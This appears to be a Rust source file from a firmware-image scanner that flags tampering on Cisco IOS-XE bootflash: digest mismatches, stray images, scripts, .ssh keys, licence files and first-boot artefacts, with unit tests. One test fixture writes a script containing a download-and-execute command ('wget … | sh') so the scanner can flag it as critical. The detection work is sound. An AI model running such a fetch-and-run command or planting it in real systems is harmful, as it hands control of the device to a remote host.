//! The IOS-XE bootflash (CSR1000v, Catalyst 8000V): `packages.conf`'s own
//! digest, the packages it provisions, images it does not, scripts, EEM
//! and Guest Shell directories, `.ssh`, licence files, and whether the
//! image was booted (first-boot artefacts).

use qvet_inspect::appliance::SumCheck;

use super::content::escalate;
use super::Guest;
use crate::finding::{Category, Confidence, Finding, Layer, Rule, Severity};

/// packages.conf's own digest.
pub static PACKAGES_CONF_DIGEST: Rule = Rule {
    id: "iosxe-packages-conf-digest",
    title: "packages.conf digest line checked",
    severity: Severity::Low,
    confidence: Confidence::Low,
    category: Category::Integrity,
    layer: Layer::Packages,
    doc:
        "packages.conf carries `sha1sum:` (and on newer releases `sha256sum:`) of itself; the boot \
          loader refuses a file whose sum does not match. Cisco does not document the byte range, \
          so qvet tries the plausible ones (the file without its digest lines, without this line, \
          what follows it) and says which matched (info). None matching is low with low \
          confidence: a hand edit, or a range qvet does not know.",
};
/// Provisioned packages missing.
pub static PACKAGE_MISSING: Rule = Rule {
    id: "iosxe-package-missing",
    title: "package provisioned by packages.conf is missing",
    severity: Severity::Medium,
    confidence: Confidence::High,
    category: Category::Integrity,
    layer: Layer::Packages,
    doc: "packages.conf names a .pkg that is not on bootflash: the image cannot boot as provisioned, \
          or the file was renamed or removed by a repack.",
};
/// Images not provisioned.
pub static UNREFERENCED_IMAGE: Rule = Rule {
    id: "iosxe-unreferenced-image",
    title: "software image on bootflash that packages.conf does not provision",
    severity: Severity::Low,
    confidence: Confidence::Medium,
    category: Category::Integrity,
    layer: Layer::Packages,
    doc: "A .pkg or .bin next to the provisioned set: a leftover of an upgrade, or a payload someone \
          added. Compare its digest with Cisco's published one.",
};
/// Scripts on bootflash.
pub static SCRIPT: Rule = Rule {
    id: "iosxe-script",
    title: "script on bootflash",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    category: Category::Persistence,
    layer: Layer::Persistence,
    doc: "Tcl, Python, shell, Perl or Expect files on bootflash: vendor images carry none; EEM, \
          `tclsh` and Guest Shell can run them. Read what they do. Low inside a hidden directory \
          IOS-XE creates itself (.installer, .prst_sync …); critical when it downloads and runs \
          code or opens a shell.",
};
/// Directories with code or access.
pub static CODE_DIRECTORY: Rule = Rule {
    id: "iosxe-code-directory",
    title: "bootflash directory that holds code or access",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    category: Category::Persistence,
    layer: Layer::Persistence,
    doc: "`.ssh/` (keys: high when it holds files), EEM user policy directories the configuration \
          registers, `guest-share/`, `gs_script/`, `iox/` (Guest Shell and IOx: a Linux container \
          that runs what these hold). Empty directories are info.",
};
/// Licence files.
pub static LICENCE_FILE: Rule = Rule {
    id: "iosxe-licence-file",
    title: "licence or day-0 file on bootflash",
    severity: Severity::Info,
    confidence: Confidence::High,
    category: Category::Licence,
    layer: Layer::Content,
    doc: "*.lic files and ciscosdwan*.cfg day-0 files: a pre-applied licence or an SD-WAN \
          onboarding secret left by whoever prepared the image — a repack tell.",
};
/// First-boot artefacts.
pub static BOOTED: Rule = Rule {
    id: "iosxe-booted",
    title: "image has been booted",
    severity: Severity::Info,
    confidence: Confidence::High,
    category: Category::Provenance,
    layer: Layer::Filesystem,
    doc:
        "First-boot artefacts (.installer, tracelogs, .dbpersist, virtual-instance, nvram files …) \
          exist only after the router ran: a vendor qcow2 holds just the packages and \
          packages.conf. Not tampering; it means the image is someone's booted copy.",
};

/// Every rule of this family.
pub static RULES: &[Rule] = &[
    PACKAGES_CONF_DIGEST,
    PACKAGE_MISSING,
    UNREFERENCED_IMAGE,
    SCRIPT,
    CODE_DIRECTORY,
    LICENCE_FILE,
    BOOTED,
];

/// Runs the family on an IOS-XE bootflash.
pub fn check(g: &Guest<'_, '_>) -> Vec<Finding> {
    let mut out = Vec::new();
    let Some(b) = &g.appliance.bootflash else {
        return out;
    };
    if let Some(pc) = &b.packages_conf {
        for (which, sum, check) in [
            ("sha1sum", &pc.sha1, &pc.sha1_check),
            ("sha256sum", &pc.sha256, &pc.sha256_check),
        ] {
            let (Some((line, value)), Some(check)) = (sum, check) else {
                continue;
            };
            let f = g
                .at(&PACKAGES_CONF_DIGEST, &pc.path, String::new())
                .line(Some(*line))
                .evidence("recorded", value.clone());
            out.push(match check {
                SumCheck::Matched(range) => {
                    let mut f = f.severity(Severity::Info).confidence(Confidence::High).evidence("range", *range);
                    f.title = format!("packages.conf {which} matches its content ({range})");
                    f
                }
                SumCheck::NoneMatched => {
                    let mut f = f.evidence("tried", "file without digest lines; without this line; bytes after it; bytes after the digest lines");
                    f.title = format!("packages.conf {which} matches none of the byte ranges tried");
                    f
                }
            });
        }
        let present: Vec<&str> = b.images.iter().map(|(n, _)| n.as_str()).collect();
        for (line, pkg) in &pc.packages {
            if !present.contains(&pkg.as_str()) {
                out.push(
                    g.at(
                        &PACKAGE_MISSING,
                        &pc.path,
                        format!("packages.conf provisions {pkg}, which is not on bootflash"),
                    )
                    .line(Some(*line))
                    .evidence("package", pkg.clone()),
                );
            }
        }
        for (name, size) in &b.images {
            if !pc.packages.iter().any(|(_, p)| p == name) {
                out.push(
                    g.at(
                        &UNREFERENCED_IMAGE,
                        &format!("/{name}"),
                        format!("{name} is not provisioned by packages.conf"),
                    )
                    .evidence("size", size.to_string()),
                );
            }
        }
    }
    for s in &b.scripts {
        let mut f = g.at(&SCRIPT, s, format!("script {s}"));
        // In a hidden directory IOS-XE creates itself (.installer …): low.
        if g.appliance.vendor_hidden(s) {
            f = f
                .severity(Severity::Low)
                .evidence("place", "a hidden directory IOS-XE creates itself");
        }
        // What it runs: downloading and running code is critical anywhere.
        if let Some(text) = g.tree.read(s.as_bytes(), 1 << 20).content() {
            f = escalate(f, &String::from_utf8_lossy(text));
        }
        out.push(f);
    }
    for (dir, files) in &b.code_dirs {
        let severity = match (dir.as_str(), files) {
            (_, 0) => Severity::Info,
            ("/.ssh", _) => Severity::High,
            (
                "/guest-share" | "/iox" | "/SHARED-IOX" | "/iox_host_data_share" | "/gs_script",
                _,
            ) => Severity::Low,
            _ => Severity::Medium,
        };
        out.push(
            g.at(&CODE_DIRECTORY, dir, format!("{dir} holds {files} file(s)"))
                .severity(severity)
                .evidence("files", files.to_string()),
        );
    }
    for l in &b.licence_files {
        out.push(g.at(&LICENCE_FILE, l, format!("licence or day-0 file {l}")));
    }
    if !b.first_boot.is_empty() {
        out.push(
            g.at(
                &BOOTED,
                "/",
                format!("{} first-boot artefact(s) on bootflash", b.first_boot.len()),
            )
            .evidence("artefacts", b.first_boot.join(", ")),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::{findings, ids, Fixture};
    use sha1::Digest as _;

    fn conf(tamper: bool) -> String {
        let body = "#! /usr/binos/bin/packages_conf.sh\n\n# sha1sum above - used to verify that this file is not corrupted.\nboot  rp 0 0   rp_boot     csr1000v-rpboot.16.12.01b.SPA.pkg\niso   rp 0 0   rp_base     csr1000v-mono-universalk9.16.12.01b.SPA.pkg\n";
        let sum = qvet_inspect::packages::hex(&sha1::Sha1::digest(body.as_bytes()));
        let with = body.replacen("\n\n", &format!("\n\nsha1sum: {sum}\n"), 1);
        if tamper {
            with.replace("rp_base ", "rp_bas3 ")
        } else {
            with
        }
    }

    #[test]
    fn pristine_bootflash_is_quiet() {
        let mut f = Fixture::new();
        f.fs.file("/packages.conf", 0o644, conf(false).as_bytes())
            .file("/csr1000v-rpboot.16.12.01b.SPA.pkg", 0o644, b"p")
            .file("/csr1000v-mono-universalk9.16.12.01b.SPA.pkg", 0o644, b"p")
            .mkdir("/lost+found");
        let found = findings(&f, check);
        assert_eq!(ids(&found), ["iosxe-packages-conf-digest"]);
        assert_eq!(found[0].severity, Severity::Info);
        assert!(found[0].title.contains("matches"));
    }

    #[test]
    fn repacked_bootflash_is_loud() {
        let mut f = Fixture::new();
        f.fs.file("/packages.conf", 0o644, conf(true).as_bytes())
            .file("/csr1000v-rpboot.16.12.01b.SPA.pkg", 0o644, b"p")
            .file("/csr1000v-universalk9.16.09.01.SPA.bin", 0o644, b"b")
            .file("/.ssh/authorized_keys", 0o600, b"k")
            .file("/tools/x.tcl", 0o644, b"puts 1")
            .file(
                "/agent.sh",
                0o755,
                b"#!/bin/sh\nwget -qO- http://203.0.113.4/a | sh\n",
            )
            .file("/csr.lic", 0o644, b"l")
            .mkdir("/tracelogs");
        let found = findings(&f, check);
        let got: Vec<_> = found.iter().map(|f| (f.rule.id, f.severity)).collect();
        for want in [
            ("iosxe-packages-conf-digest", Severity::Low),
            ("iosxe-package-missing", Severity::Medium),
            ("iosxe-unreferenced-image", Severity::Low),
            ("iosxe-script", Severity::Medium),
            ("iosxe-script", Severity::Critical),
            ("iosxe-code-directory", Severity::High),
            ("iosxe-licence-file", Severity::Info),
            ("iosxe-booted", Severity::Info),
        ] {
            assert!(got.contains(&want), "{want:?} not in {got:?}");
        }
    }
}
